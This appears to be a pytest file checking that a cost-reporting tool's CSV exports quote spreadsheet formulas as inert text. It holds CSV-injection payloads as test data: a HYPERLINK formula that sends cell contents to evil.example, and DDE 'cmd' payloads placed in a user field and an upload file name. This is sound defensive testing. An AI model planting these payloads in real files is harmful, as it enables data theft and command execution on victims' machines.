"""Item 10: text from bills, rules, users and the trail reaches CSV only through the formula guard.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return): a service,
rule, comment, user name or uploaded file name like `=HYPERLINK("http://evil/?"&A1,"open")`
must come out of every CSV Costbook writes as text. The CLI's CSV output (`totals`, `explain`,
`rules history`, `users list`) and the audit CSV export are attacked here.
"""

import csv
import io

import pytest

from lib.cli.main import main
from lib.config import versions
from lib.core import access
from lib.core.exports import DANGEROUS
from lib.people import users
from lib.sources import imports
from tests.bill import charge
from tests.conftest import RULES
from tests.hostile.conftest import bill

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str, evil: str = EVIL) -> None:
    found = cells(text)
    assert "'" + evil in found, text  # the text is there, as text
    assert not [c for c in found if c.startswith(DANGEROUS)], text


def run(store, capsys, *argv) -> str:
    capsys.readouterr()
    assert main(["--data-dir", str(store.data_dir), *argv]) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize(("column", "by"), [("ServiceName", "service"), ("ProviderName", "provider")])
def test_totals_quote_a_formula_from_the_bill(served, tmp_path, capsys, column, by):
    path = bill(tmp_path / "evil.csv", [charge("web", "Amazon EC2", "7.00", BillingAccountId="payer-2",
                                               **{column: EVIL})])
    assert imports.import_paths(served, access.CLI, [path]).ok
    assert_inert(run(served, capsys, "totals", "--month", "2026-10", "--by", by))


def test_explain_and_rules_history_quote_a_formula_rule_name_and_comment(served, capsys):
    rules = RULES.replace("name: Team tag", f"name: '{EVIL}'")
    assert versions.save_rules(served, rules, access.CLI, EVIL)[1] == []
    assert_inert(run(served, capsys, "explain", "--team", "web", "--month", "2026-10"))
    assert_inert(run(served, capsys, "rules", "history"))


def test_users_list_quotes_a_formula_name_and_email(served, capsys):
    assert users.save_user(served, access.CLI, "mallory", "viewer", ["engineering"], EVIL, "+cmd|' /C calc'!A0",
                           "Corr3ct-horse-battery") == []
    out = run(served, capsys, "users", "list")
    assert_inert(out)
    assert_inert(out, "+cmd|' /C calc'!A0")


def test_the_audit_export_quotes_a_formula_file_name(served, tmp_path, capsys):
    content = open(bill(tmp_path / "x.csv"), "rb").read()
    name = "=1+2+cmd|' -C calc'!A0.csv"  # an upload's name is the uploader's choice
    assert imports.import_uploads(served, access.CLI, [(name, content)]).ok
    out = tmp_path / "audit.csv"
    run(served, capsys, "audit", "export", "--out", str(out))
    assert_inert(out.read_text(), name)
